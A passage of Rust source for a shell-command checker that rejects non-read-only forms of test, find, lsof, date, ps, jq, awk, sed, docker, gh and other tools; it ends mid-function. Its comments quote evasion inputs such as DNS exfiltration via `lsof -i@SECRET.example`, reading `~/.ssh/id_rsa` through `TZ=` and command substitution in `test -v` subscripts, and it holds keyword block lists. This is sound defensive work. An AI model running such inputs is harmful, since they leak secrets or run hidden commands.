//! What option tables cannot express: scripts, programs, filters and the
//! subcommands of client programs.

use crate::Reject;
use crate::flags::{self, Options, Parsed};
use crate::rules::Rule;

fn reject(rule: impl Into<crate::Text>, reason: impl Into<crate::Text>) -> Result<(), Reject> {
    Err(Reject::new(rule, reason))
}

/// `test`/`[`: the operand of `-v` (is a variable set) and `-R` (is it a
/// name reference) is a variable name, and a subscript in it is evaluated
/// as arithmetic, which runs command substitutions (`test -v 'a[$(id)]'`).
/// Only plain names, or names with a literal number as subscript, pass.
pub(crate) fn test_names(args: &[&str]) -> Result<(), Reject> {
    let plain = |name: &str| {
        let (base, subscript) = match name.split_once('[') {
            Some((base, rest)) => (base, rest.strip_suffix(']')),
            None => (name, Some("0")),
        };
        let ident = base.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && base.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
        ident && subscript.is_some_and(|s| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
    };
    // `[`'s closing bracket is not an operand.
    let args = match args.split_last() {
        Some((&"]", rest)) => rest,
        _ => args,
    };
    for pair in args.windows(2) {
        if matches!(pair[0], "-v" | "-R") && !plain(pair[1]) {
            return reject(
                Rule::ReadonlyTestSubscript,
                format!(
                    "`{} {}`: bash evaluates the subscript, which can run commands",
                    pair[0], pair[1]
                ),
            );
        }
    }
    Ok(())
}

/// `less +cmd`, `more +cmd`, `man +cmd`: a leading `+` runs a pager command.
pub(crate) fn no_plus_commands(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    match p.operands.iter().find(|(_, o)| o.starts_with('+')) {
        Some((_, o)) => reject(
            Rule::ReadonlyPagerCommand,
            format!("`{o}` runs a pager command"),
        ),
        None => Ok(()),
    }
}

/// `uniq in out`, `xxd in out`: a second operand is an output file.
pub(crate) fn at_most_one_operand(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    if p.operands.len() > 1 {
        return reject(
            Rule::ReadonlyOutputOperand,
            "a second operand names a file that is written",
        );
    }
    Ok(())
}

/// `cd DIR`: at most one operand, and not `-` (the previous directory, unknown here).
pub(crate) fn cd(p: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    at_most_one_operand(p, args)?;
    if p.operands.iter().any(|(_, o)| *o == "-") {
        return reject(
            Rule::ReadonlyCdOldpwd,
            "`cd -` goes to a directory that is not known here",
        );
    }
    Ok(())
}

/// `find`: an operand that begins with `-` is never a starting point: GNU
/// find reads it as the start of the expression even after `--` (`find --
/// -delete` deletes), where the table would read it as a path.
pub(crate) fn find(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    match p.operands.iter().find(|(_, o)| o.starts_with('-')) {
        Some((_, o)) => reject(
            Rule::ReadonlyFlag.at_fmt(format_args!("find:{o}")),
            format!("`{o}` after `--` is still an expression of `find`"),
        ),
        None => Ok(()),
    }
}

/// `netstat` looks the names of addresses up (DNS) unless `-n`.
pub(crate) fn numeric(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    match p.has("-n") {
        true => Ok(()),
        false => reject(
            Rule::ReadonlyFlag.at("netstat:-n"),
            "without `-n`, netstat asks the resolver (the network) for names",
        ),
    }
}

/// `lsof -i [46][PROTO][@HOST][:PORT]`: a host that is a name is looked
/// up, and the lookup carries the name out (`-i@SECRET.example`): only an
/// IPv4 address, a bracketed IPv6 one or `*` may follow `@`. The address
/// is `-i`'s glued value or, as lsof reads it, the next word (an operand
/// to the table).
pub(crate) fn lsof(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    // lsof reads a leading `+` as an option, never as an operand: `+D DIR`
    // and `+d DIR` walk a directory (which may be outside), `+M` asks the
    // portmapper, `+r` repeats forever. Only what changes the listing is
    // read-only.
    if let Some(&(_, o)) = p
        .operands
        .iter()
        .find(|(_, o)| o.starts_with('+') && !LSOF_PLUS.iter().any(|k| o.starts_with(k)))
    {
        return reject(
            Rule::ReadonlyFlag.at_fmt(format_args!("lsof:{o}")),
            format!("`{o}` is an option of lsof (a directory walk, the portmapper or a repeat)"),
        );
    }
    let specs = p
        .flags
        .iter()
        .filter(|f| f.name == "-i")
        .filter_map(|f| f.value)
        .chain(p.operands.iter().map(|&(_, o)| o));
    for spec in specs {
        let Some((_, host)) = spec.split_once('@') else {
            continue;
        };
        let address = match host.strip_prefix('[') {
            Some(v6) => v6
                .split_once(']')
                .is_some_and(|(a, _)| a.parse::<std::net::Ipv6Addr>().is_ok()),
            None => {
                let host = host.split(':').next().unwrap_or(host);
                host == "*" || host.parse::<std::net::Ipv4Addr>().is_ok()
            }
        };
        if !address {
            return reject(
                Rule::ReadonlyHostLookup,
                format!("`{spec}` names a host, which lsof looks up"),
            );
        }
    }
    Ok(())
}

/// lsof's `+` options that only change what a listing shows (`+c WIDTH`,
/// `+L` link counts, `+w` warnings).
const LSOF_PLUS: &[&str] = &["+c", "+L", "+w"];

/// `history` may only list (`history`, `history N`).
pub(crate) fn history(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    if p.operands.len() > 1
        || p.operands
            .iter()
            .any(|(_, o)| !o.bytes().all(|b| b.is_ascii_digit()))
    {
        return reject(
            Rule::ReadonlyHistory,
            "history only lists its entries when given a count",
        );
    }
    Ok(())
}

/// `date`: operands must be `+FORMAT` (anything else may set the clock),
/// and each `-d` string's time zone a zone name ([`date_string_zone`]).
pub(crate) fn date(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    if let Some((_, o)) = p.operands.iter().find(|(_, o)| !o.starts_with('+')) {
        return reject(
            Rule::ReadonlyDateSet,
            format!("`{o}` would set the system time"),
        );
    }
    for string in p
        .flags
        .iter()
        .filter(|f| f.name == "-d")
        .filter_map(|f| f.value)
    {
        if !date_string_zone(string) {
            return reject(
                Rule::ReadonlyDateZone,
                format!("`{string}` sets a time zone that names a file"),
            );
        }
    }
    Ok(())
}

/// A GNU date string (`date -d`) may begin with `TZ="VALUE"`, which
/// loads VALUE as a time zone: a path there (`TZ="/home/u/.ssh/id_rsa"
/// now`) opens any file. Read as gnulib's `parse_datetime` reads it
/// (leading white space, then `TZ="`, `\\` and `\"` escapes), VALUE must
/// have the shape the `TZ=` prefix accepts (a zone name); any other
/// `TZ=` in the string is not read.
fn date_string_zone(string: &str) -> bool {
    let trimmed = string.trim_start_matches([' ', '\t', '\n', '\x0b', '\x0c', '\r']);
    let (zone, rest) = match trimmed.strip_prefix("TZ=\"") {
        Some(quoted) => {
            let mut zone = String::new();
            let mut chars = quoted.char_indices();
            let end = loop {
                match chars.next() {
                    Some((at, '"')) => break Some(at),
                    Some((_, '\\')) => match chars.next() {
                        Some((_, c @ ('\\' | '"'))) => zone.push(c),
                        _ => break None,
                    },
                    Some((_, c)) => zone.push(c),
                    None => break None,
                }
            };
            let Some(end) = end else { return false };
            (Some(zone), &quoted[end + 1..])
        }
        None => (None, string),
    };
    zone.is_none_or(|z| crate::harmless_env("TZ", &z)) && !rest.to_ascii_uppercase().contains("TZ=")
}

/// `ps`: BSD-style operands must not contain `e` (shows every process's environment).
pub(crate) fn ps(p: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    // procps reads a UNIX cluster whose value-taking option has a value
    // attached (`-auxe`: `-u` with "xe"; `-eux`: `-u` with "x") as BSD
    // options when that fails (no such user): all the cluster's letters,
    // those before the option too, then include BSD `e`, the environment
    // of every process.
    for arg in args
        .iter()
        .filter(|a| a.starts_with('-') && !a.starts_with("--"))
    {
        let letters = &arg[1..];
        if let Some(at) = letters.find(|c| "uUgGpqtsCoOk".contains(c))
            && at + 1 < letters.len()
            && letters.contains('e')
        {
            return reject(
                Rule::SecretsPsEnvironment,
                format!(
                    "`ps {arg}` may be read as BSD options, whose `e` prints process environments"
                ),
            );
        }
    }
    // The `environ` output field (procps) is the environment too.
    if let Some(f) = p
        .flags
        .iter()
        .find(|f| matches!(f.name, "-o" | "-O") && f.value.is_some_and(|v| v.contains("environ")))
    {
        return reject(
            Rule::SecretsPsEnvironment,
            format!(
                "`ps {} {}` prints process environments",
                f.name,
                f.value.unwrap_or("")
            ),
        );
    }
    for (_, o) in &p.operands {
        if o.bytes().all(|b| b.is_ascii_digit() || b == b',') {
            continue;
        }
        if o.contains('e') {
            return reject(
                Rule::SecretsPsEnvironment,
                format!("`ps {o}` prints process environments"),
            );
        }
        if !o.bytes().all(|b| b"auxwfjlsvmrTScHhnZ".contains(&b)) {
            return reject(
                Rule::ReadonlyFlag.at_fmt(format_args!("ps:{o}")),
                format!("unknown ps option `{o}`"),
            );
        }
    }
    Ok(())
}

/// Words of an expression language, delimited by non-identifier characters.
fn has_word(text: &str, word: &str) -> bool {
    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
    text.match_indices(word).any(|(at, _)| {
        let before = text[..at].chars().next_back();
        let after = text[at + word.len()..].chars().next();
        !before.is_some_and(|c| ident(c) || c == '$') && !after.is_some_and(ident)
    })
}

/// `jq FILTER`: no environment, no modules.
pub(crate) fn jq(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    match p.operands.first() {
        Some((_, filter)) => jq_filter(filter),
        None => Ok(()),
    }
}

/// A jq filter (jq's, gh's `--jq`, the jq-based yq's) that reads no
/// environment, module or file name.
fn jq_filter(filter: &str) -> Result<(), Reject> {
    // jq allows white space and comments between `$` and a name
    // (`$ ENV` is `$ENV`): look at the filter without them.
    let squeezed = jq_squeeze(filter);
    if squeezed.contains("$ENV") || has_word(filter, "env") {
        return reject(Rule::SecretsJqEnv, "the jq filter reads the environment");
    }
    for word in [
        "include",
        "import",
        "input_filename",
        "$__prog_args",
        "$__loc__",
    ] {
        if has_word(filter, word) || squeezed.contains(word) && word.starts_with('$') {
            return reject(
                Rule::ReadonlyJqModule,
                format!("the jq filter uses `{word}`"),
            );
        }
    }
    Ok(())
}

/// [`jq_squeeze`], for the property tests.
#[cfg(test)]
pub(crate) fn jq_squeeze_for_tests(filter: &str) -> String {
    jq_squeeze(filter)
}

/// A jq filter without white space and `#` comments outside its strings.
/// A `#` inside a string literal is a character (`"#" as $x | $ENV`), and
/// a string's `\(...)` interpolation is code again, with strings of its own.
fn jq_squeeze(filter: &str) -> String {
    let mut out = String::with_capacity(filter.len());
    let (mut in_string, mut comment, mut depth) = (false, false, 0usize);
    // The parenthesis depth at which each open interpolation began.
    let mut interpolations: Vec<usize> = Vec::new();
    let mut chars = filter.chars();
    while let Some(c) = chars.next() {
        if comment {
            comment = c != '\n';
            continue;
        }
        if in_string {
            out.push(c);
            match c {
                '"' => in_string = false,
                '\\' => {
                    if let Some(next) = chars.next() {
                        out.push(next);
                        if next == '(' {
                            interpolations.push(depth);
                            depth += 1;
                            in_string = false;
                        }
                    }
                }
                _ => {}
            }
            continue;
        }
        match c {
            '#' => comment = true,
            '"' => {
                in_string = true;
                out.push(c);
            }
            '(' => {
                depth += 1;
                out.push(c);
            }
            ')' => {
                depth = depth.saturating_sub(1);
                out.push(c);
                if interpolations.last() == Some(&depth) {
                    interpolations.pop();
                    in_string = true;
                }
            }
            _ if c.is_whitespace() => {}
            _ => out.push(c),
        }
    }
    out
}

/// `yq EXPR`: no file loading, no environment, no eval. Both yq exist
/// under the name: the Go one (mikefarah) and the Python one (kislyuk), a
/// jq wrapper whose expressions are jq filters (`$ENV`, `input_filename`).
pub(crate) fn yq(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    let Some((_, expr)) = p.operands.first() else {
        return Ok(());
    };
    // Python's yq passes options it does not know (Go yq's `-o`, `-p`,
    // `-I`) to jq, so the word read here as the expression may be jq's
    // filter's value and the next a file: an expression that is a path is
    // a file yq would read unchecked.
    if expr.starts_with(['/', '~']) || expr.starts_with("..") && expr.contains('/') {
        return reject(
            Rule::ReadonlyYqExpression,
            format!("`{expr}` is a path: Python's yq would read it as a file"),
        );
    }
    jq_filter(expr)?;
    for word in [
        "load",
        "load_str",
        "load_xml",
        "load_props",
        "load_base64",
        "strenv",
        "env",
        "envsubst",
        "eval",
    ] {
        if has_word(expr, word) {
            return reject(
                Rule::ReadonlyYqExpression,
                format!("the yq expression uses `{word}`"),
            );
        }
    }
    Ok(())
}

/// `awk PROGRAM` (or each `-e`/`--source` text, which gawk joins): no
/// commands, pipes, `getline`, output redirection, environment, extensions
/// or network files. Statements are read as awk's lexer reads them
/// ([`crate::awk`]); what it cannot read is not read-only.
pub(crate) fn awk(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    let sources: Vec<&str> = p
        .flags
        .iter()
        .filter(|f| f.name == "-e")
        .map(|f| f.value.unwrap_or(""))
        .collect();
    // With `-e` (gawk), the first operand is an input file, which the row
    // takes for the program and does not place: ask rather than read a
    // file that may be anywhere.
    if !sources.is_empty() && !p.operands.is_empty() {
        return reject(
            Rule::ReadonlyAwkProgram,
            "with `-e`, awk's operands are files to read, which are not placed",
        );
    }
    let programs = match (sources.is_empty(), p.operands.first()) {
        (false, _) => sources,
        (true, Some(&(_, program))) => vec![program],
        (true, None) => return Ok(()),
    };
    programs.into_iter().try_for_each(awk_program)
}

fn awk_program(program: &str) -> Result<(), Reject> {
    // A backslash before a newline continues the line: `print 1 \<NL> > "x"`
    // is one statement. Whether an awk also joins the words around it
    // (`sys\<NL>tem`) is not asked: both readings are checked.
    let joined = program.replace("\\\n", "").replace("\\\r\n", "");
    for text in [program, joined.as_str()] {
        for (needle, why) in [
            ("system", "runs a command"),
            ("getline", "reads from a command or file"),
            ("ENVIRON", "reads the environment"),
            (
                "ARGV",
                "can name the files it reads (`ARGV[1]=\"/etc/passwd\"`)",
            ),
            ("ARGC", "can change which files it reads"),
            ("PROCINFO", "reads process information"),
            // gawk's table of every variable by name: `SYMTAB["ENV" "IRON"]`
            // reaches ENVIRON, ARGV and PROCINFO spelled in pieces.
            ("SYMTAB", "reaches every variable by a name it builds"),
            ("FUNCTAB", "reaches every function by a name it builds"),
            // `@load`, `@include`, `@namespace`, and gawk's indirect calls
            // (`f = "system"; @f("id")`), which reach any built-in function.
            ("@", "loads, includes or calls indirectly"),
            ("/inet", "opens a network connection"),
        ] {
            if text.contains(needle) {
                return reject(
                    Rule::ReadonlyAwkProgram,
                    format!("the awk program {why} (`{needle}`)"),
                );
            }
        }
        match crate::awk::writes(text) {
            Ok(false) => {}
            Ok(true) => {
                return reject(
                    Rule::ReadonlyAwkProgram,
                    "the awk program redirects output to a file or pipes to a command",
                );
            }
            Err(why) => {
                return reject(
                    Rule::ReadonlyAwkProgram,
                    format!("the awk program cannot be read with certainty: {why}"),
                );
            }
        }
    }
    Ok(())
}

/// `sed SCRIPT`: only commands that print or edit the pattern space.
pub(crate) fn sed(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    let scripts: Vec<&str> = match p
        .flags
        .iter()
        .filter(|f| f.name == "-e")
        .map(|f| f.value.unwrap_or(""))
        .collect::<Vec<_>>()
    {
        v if v.is_empty() => p.operands.first().map(|(_, s)| *s).into_iter().collect(),
        v => v,
    };
    for script in scripts {
        if let Err(why) = sed_script(script) {
            return reject(Rule::ReadonlySedScript, why);
        }
    }
    Ok(())
}

/// A conservative parser of sed scripts: anything it does not know rejects.
pub(crate) fn sed_script(script: &str) -> Result<(), String> {
    let b = script.as_bytes();
    let mut i = 0;
    let skip_ws = |i: &mut usize| {
        while *i < b.len() && matches!(b[*i], b' ' | b'\t' | b'\n' | b';') {
            *i += 1;
        }
    };
    // Read a delimited part; returns the index after the closing delimiter.
    let delimited = |mut i: usize, delim: u8| -> Result<usize, String> {
        while i < b.len() {
            match b[i] {
                b'\\' => i += 2,
                c if c == delim => return Ok(i + 1),
                b'\n' if delim != b'\n' => return Err("newline inside a sed expression".into()),
                _ => i += 1,
            }
        }
        Err("unterminated sed expression".into())
    };
    let address = |mut i: usize| -> Result<usize, String> {
        match b.get(i) {
            Some(b'0'..=b'9') => {
                while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'~') {
                    i += 1;
                }
            }
            Some(b'$') => i += 1,
            Some(b'/') => i = delimited(i + 1, b'/')?,
            Some(b'\\') => {
                let d = *b.get(i + 1).ok_or("bad address")?;
                i = delimited(i + 2, d)?;
            }
            _ => return Ok(i),
        }
        while i < b.len() && matches!(b[i], b'I' | b'M') {
            i += 1;
        }
        Ok(i)
    };
    loop {
        skip_ws(&mut i);
        if i >= b.len() {
            return Ok(());
        }
        i = address(i)?;
        if b.get(i) == Some(&b',') {
            i = address(i + 1)?;
            if b.get(i) == Some(&b'+') || b.get(i) == Some(&b'~') {
                i += 1;
                while i < b.len() && b[i].is_ascii_digit() {
                    i += 1;
                }
            }
        }
        while i < b.len() && matches!(b[i], b' ' | b'\t' | b'!') {
            i += 1;
        }
        let Some(&cmd) = b.get(i) else {
            return Err("sed address without a command".into());
        };
        i += 1;
        if cmd == b'#' {
            while i < b.len() && b[i] != b'\n' {
                i += 1;
            }
            continue;
        }
        match cmd {
            b'{' => {}
            b'}' | b'=' | b'p' | b'P' | b'd' | b'D' | b'n' | b'N' | b'g' | b'G' | b'h' | b'H'
            | b'x' | b'z' | b'F' => {
                // GNU sed: only a separator, `}` or a comment may follow.
                while i < b.len() && matches!(b[i], b' ' | b'\t') {
                    i += 1;
                }
                if i < b.len() && !matches!(b[i], b';' | b'\n' | b'}' | b'#') {
                    return Err(format!("extra characters after `{}`", cmd as char));
                }
            }
            b'l' | b'q' | b'Q' | b'L' => {
                while i < b.len() && (b[i].is_ascii_digit() || b[i] == b' ') {
                    i += 1;
                }
            }
            // GNU sed ends a label at white space too: `:a w out` and
            // `ba w out` are a label, then `w out` (verified with sed 4.9).
            b'b' | b't' | b'T' | b':' => {
                while i < b.len() && matches!(b[i], b' ' | b'\t') {
                    i += 1;
                }
                while i < b.len() && !matches!(b[i], b';' | b'\n' | b'}' | b' ' | b'\t') {
                    i += 1;
                }
            }
            b'a' | b'i' | b'c' => {
                // Text to print, up to an unescaped end of line.
                while i < b.len() && b[i] != b'\n' {
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
            }
            b's' => {
                let delim = *b.get(i).ok_or("unterminated s command")?;
                if delim == b'\\' || delim == b'\n' {
                    return Err("unsupported s delimiter".into());
                }
                i = delimited(i + 1, delim)?;
                i = delimited(i, delim)?;
                while i < b.len() && !matches!(b[i], b';' | b'\n' | b'}' | b' ' | b'\t') {
                    match b[i] {
                        b'g' | b'p' | b'i' | b'I' | b'm' | b'M' | b'0'..=b'9' => i += 1,
                        b'w' | b'W' => return Err("the s command writes a file (`w` flag)".into()),
                        b'e' => {
                            return Err(
                                "the s command executes the pattern space (`e` flag)".into()
                            );
                        }
                        c => return Err(format!("unknown s flag `{}`", c as char)),
                    }
                }
            }
            b'y' => {
                let delim = *b.get(i).ok_or("unterminated y command")?;
                i = delimited(i + 1, delim)?;
                i = delimited(i, delim)?;
            }
            b'w' | b'W' => return Err(format!("`{}` writes a file", cmd as char)),
            b'r' | b'R' => {
                return Err(format!(
                    "`{}` reads a file named in the script",
                    cmd as char
                ));
            }
            b'e' => return Err("`e` executes a command".into()),
            c => return Err(format!("unknown sed command `{}`", c as char)),
        }
    }
}

/// Parse `args` against an inline table; unknown options reject with
/// `readonly.flag:COMMAND:OPT`.
fn table<'a>(
    command: &str,
    table: &'static str,
    args: &'a [&'a str],
) -> Result<Parsed<'a>, Reject> {
    let mut options = Options::parse(table);
    options.extend("--help");
    flags::parse(&options, args, false, false).map_err(|u| {
        Reject::new(
            Rule::ReadonlyFlag.at_fmt(format_args!("{command}:{}", u.0)),
            format!("`{}` is not a known read-only option", u.0),
        )
    })
}

/// The filter of gh's `-q`/`--jq` (`-q F`, `-qF`, `--jq F`, `--jq=F`),
/// which gh evaluates with the process environment as `$ENV`.
fn gh_jq<'a>(args: &[&'a str]) -> Option<&'a str> {
    args.iter().enumerate().find_map(|(i, a)| match *a {
        "-q" | "--jq" => args.get(i + 1).copied(),
        _ => a
            .strip_prefix("--jq=")
            .or_else(|| a.strip_prefix("-q").filter(|f| !f.is_empty())),
    })
}

/// `docker ps|images|inspect|logs|version|info`. The row has no global
/// options, so `-H`, `--context` and `--config` (another daemon) reject first.
pub(crate) fn docker(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    let rest = args.get(1..).unwrap_or(&[]);
    let sub = args.first().copied().unwrap_or("");
    let spec = match sub {
        "ps" => {
            "-a|--all -q|--quiet -n|--last=NUM -l|--latest -s|--size --no-trunc --format=STR -f|--filter=STR"
        }
        "images" => "-a|--all -q|--quiet --digests --no-trunc --format=STR -f|--filter=STR",
        "inspect" => "-f|--format=STR -s|--size --type=STR",
        "logs" => "--since=STR --until=STR -n|--tail=STR -t|--timestamps -f|--follow --details",
        "version" | "info" => "-f|--format=STR",
        _ => {
            return reject(
                Rule::ReadonlySubcommand.at_fmt(format_args!("docker:{sub}")),
                format!("`docker {sub}` is not known to be read-only"),
            );
        }
    };
    let parsed = table(&format!("docker {sub}"), spec, rest)?;
    if matches!(sub, "ps" | "images" | "version" | "info") && !parsed.operands.is_empty() {
        return reject(
            Rule::ReadonlyOperand.at("docker"),
            format!("`docker {sub}` takes no operands"),
        );
    }
    if sub == "inspect" && !parsed.value("-f").is_some_and(inspect_format_shows_no_env) {
        return reject(
            Rule::SecretsPrint.at("docker inspect"),
            "`docker inspect` prints a container's environment, which holds secrets, unless a format picks other fields",
        );
    }
    Ok(())
}

/// A `docker inspect --format` template that only names fields outside
/// the configuration (`{{.State.Status}}`, `{{json .NetworkSettings}}`):
/// each action is `json` and field paths, none through `Config` or `Env`.
/// Anything else (the whole object `.`, `index`, `printf`, variables) could
/// reach `.Config.Env`.
fn inspect_format_shows_no_env(format: &str) -> bool {
    let field = |t: &str| {
        t.strip_prefix('.').is_some_and(|path| {
            path.split('.').all(|seg| {
                !seg.is_empty()
                    && seg.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
                    && !seg.eq_ignore_ascii_case("config")
                    && !seg.eq_ignore_ascii_case("env")
            })
        })
    };
    let mut rest = format;
    while let Some(open) = rest.find("{{") {
        let Some(close) = rest[open..].find("}}") else {
            return false;
        };
        let action = &rest[open + 2..open + close];
        if !action.split_whitespace().all(|t| t == "json" || field(t)) {
            return false;
        }
        rest = &rest[open + close + 2..];
    }
    true
}

/// Read-only `gh` subcommands; values that may name another host reject.
pub(crate) fn gh(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    const READ_ONLY: &[(&str, &[&str])] = &[
        ("pr", &["list", "view", "diff", "checks", "status"]),
        ("issue", &["list", "view", "status"]),
        ("run", &["list", "view"]),
        ("workflow", &["list", "view"]),
        ("repo", &["view"]),
        ("release", &["list", "view"]),
        ("search", &["code", "issues", "prs", "repos", "commits"]),
        ("auth", &["status"]),
        ("label", &["list"]),
        ("cache", &["list"]),
    ];
    let (group, sub) = (
        args.first().copied().unwrap_or(""),
        args.get(1).copied().unwrap_or(""),
    );
    if !READ_ONLY
        .iter()
        .any(|(g, subs)| *g == group && subs.contains(&sub))
    {
        return reject(
            Rule::ReadonlySubcommand.at_fmt(format_args!("gh:{group} {sub}")),
            format!("`gh {group} {sub}` is not known to be read-only"),
        );
    }
    if let Some(filter) = gh_jq(&args[2..]) {
        jq_filter(filter)?;
    }
    for a in &args[2..] {
        let flag = a.split('=').next().unwrap_or(a);
        if matches!(
            flag,
            "--web" | "-w" | "--show-token" | "-t" | "--hostname" | "-h"
        ) {
            let rule = if flag.contains("token") || (group == "auth" && flag == "-t") {
                Rule::SecretsGhToken
            } else {
                Rule::GhFlag
            };
            return reject(rule.at(flag), format!("`{flag}` is not read-only here"));
        }
        if a.contains("://") || a.contains('@') || a.matches('/').count() >= 2 {
            return reject(Rule::GhHost, format!("`{a}` may name another host"));
        }
    }
    Ok(())
}

/// `pip show|list|freeze|check`.
pub(crate) fn pip(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    match args.first().copied() {
        Some("show") => table("pip show", "-f|--files -v|--verbose", &args[1..]).map(drop),
        // pip list checks for a newer pip over the network (and writes its
        // answer under ~/.cache) unless told not to.
        Some("list") => {
            table(
                "pip list",
                "-e|--editable -l|--local --user --format=STR --not-required --exclude-editable --include-editable -v|--verbose --disable-pip-version-check --no-index",
                &args[1..],
            )?;
            if args
                .iter()
                .any(|a| matches!(*a, "--disable-pip-version-check" | "--no-index"))
            {
                Ok(())
            } else {
                reject(
                    Rule::ReadonlyNetworkCheck.at("pip:list"),
                    "`pip list` asks PyPI for a newer pip (add --disable-pip-version-check)",
                )
            }
        }
        Some("freeze") => table(
            "pip freeze",
            "-l|--local --user --all --exclude-editable",
            &args[1..],
        )
        .map(drop),
        Some("check") if args.len() == 1 => Ok(()),
        other => reject(
            Rule::ReadonlySubcommand.at_fmt(format_args!("pip:{}", other.unwrap_or(""))),
            "not a read-only pip command",
        ),
    }
}

/// `uv pip list|show|freeze|tree`.
pub(crate) fn uv(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    match (args.first().copied(), args.get(1).copied()) {
        (Some("pip"), Some("list" | "show" | "freeze" | "tree")) => table(
            "uv pip",
            "--format=STR -e|--editable --exclude-editable --strict -f|--files -d|--depth=NUM",
            &args[2..],
        )
        .map(drop),
        _ => reject(
            Rule::ReadonlySubcommand.at("uv"),
            "not a read-only uv command",
        ),
    }
}

/// `rustup toolchain list`, `rustup target|component list --installed`:
/// what is installed, read from `~/.rustup` (`show` may install the
/// project's toolchain; it asks).
pub(crate) fn rustup(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    match (args.first().copied(), args.get(1).copied()) {
        (Some("toolchain"), Some("list")) => table(
            "rustup toolchain list",
            "-v|--verbose -q|--quiet",
            &args[2..],
        )
        .map(drop),
        (Some("target" | "component"), Some("list")) if args[2..] == ["--installed"] => Ok(()),
        _ => reject(
            Rule::ReadonlySubcommand.at("rustup"),
            "not a read-only rustup command",
        ),
    }
}

/// `printenv NAME...` for names that hold no secret ([`crate::PRINTABLE_VARIABLES`]).
pub(crate) fn printenv(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    let names: Vec<&str> = p.operands.iter().map(|(_, o)| *o).collect();
    if names.is_empty() || !names.iter().all(|n| crate::PRINTABLE_VARIABLES.contains(n)) {
        return reject(
            Rule::SecretsPrint.at("printenv"),
            "`printenv` prints the environment, which holds secrets",
        );
    }
    Ok(())
}

/// `go version`, `go env [NAME...]` (`-w`/`-u` write the configuration).
pub(crate) fn go(_: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    match args.first().copied() {
        Some("version") if args.len() == 1 => Ok(()),
        Some("env") => table("go env", "-json", &args[1..]).map(drop),
        other => reject(
            Rule::ReadonlySubcommand.at_fmt(format_args!("go:{}", other.unwrap_or(""))),
            "not a read-only go command",
        ),
    }
}

/// `ip [OPTIONS] OBJECT [show|list] [dev IFACE | IFACE] [up]` for the objects
/// that only list: `ip addr`, `ip -br link`, `ip route show`. Any other word
/// (`add`, `del`, `set`, `flush`, `exec` ...) changes state or runs something.
pub(crate) fn ip(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    const OBJECTS: &[&str] = &[
        "address",
        "addr",
        "a",
        "link",
        "l",
        "route",
        "r",
        "ro",
        "neighbour",
        "neighbor",
        "neigh",
        "n",
        "rule",
        "ru",
    ];
    let words: Vec<&str> = p.operands.iter().map(|(_, o)| *o).collect();
    let bad = |why: String| reject(Rule::ReadonlyIp, why);
    let Some((&object, rest)) = words.split_first() else {
        return Ok(());
    };
    if !OBJECTS.contains(&object) {
        return bad(format!("`ip {object}` is not a listing"));
    }
    // iproute2 takes any prefix of a verb (`ip ru f` is `ip rule flush`),
    // trying the writing verbs first for some objects (`ip link s` is
    // `set`): a word is a listing verb only if it is a prefix of one and of
    // no writing verb.
    let lists = |w: &str| {
        !w.is_empty()
            && ["show", "list", "lst"].iter().any(|v| v.starts_with(w))
            && !IP_VERBS.iter().any(|v| v.starts_with(w))
    };
    let rest = match rest.split_first() {
        Some((&verb, rest)) if lists(verb) => rest,
        None => rest,
        Some(_) => return bad(format!("`ip {}` may change state", words.join(" "))),
    };
    let ok = match rest {
        [] | ["up"] => true,
        ["dev", iface] | [iface] | ["dev", iface, "up"] => !iface.starts_with('-'),
        _ => false,
    };
    if ok {
        Ok(())
    } else {
        bad(format!("`ip {}` may change state", words.join(" ")))
    }
}

/// iproute2's verbs that change state or run something.
const IP_VERBS: &[&str] = &[
    "add", "del", "delete", "change", "chg", "replace", "set", "flush", "append", "prepend",
    "save", "restore", "exec", "get", "monitor", "update", "test",
];

/// `ifconfig`, `ifconfig -a|-s|-v`, or `ifconfig IFACE`: with more words it
/// configures the interface.
pub(crate) fn ifconfig(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    match p.operands.as_slice() {
        [] => Ok(()),
        [(_, iface)] if !iface.starts_with('-') => Ok(()),
        _ => reject(
            Rule::ReadonlyIfconfig,
            "`ifconfig` with more than an interface name changes its settings",
        ),
    }
}

/// `man PAGE`, `info TOPIC`: names, not files. One with a `/` is a file
/// to format and print (`man /etc/hostname`); `+cmd` runs a pager command.
pub(crate) fn manual_pages(p: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    no_plus_commands(p, args)?;
    match p.operands.iter().find(|(_, o)| o.contains('/')) {
        Some((_, o)) => reject(
            Rule::ReadonlyManualFile,
            format!("`{o}` is read as a file, not looked up as a page"),
        ),
        None => Ok(()),
    }
}

/// info's node names may name a file (`(FILE)NODE`, `(/etc/passwd)Top`),
/// in an operand or in `--node`'s value: besides a manual page's checks,
/// none may hold a parenthesis or a slash.
pub(crate) fn info_nodes(p: &Parsed<'_>, args: &[&str]) -> Result<(), Reject> {
    manual_pages(p, args)?;
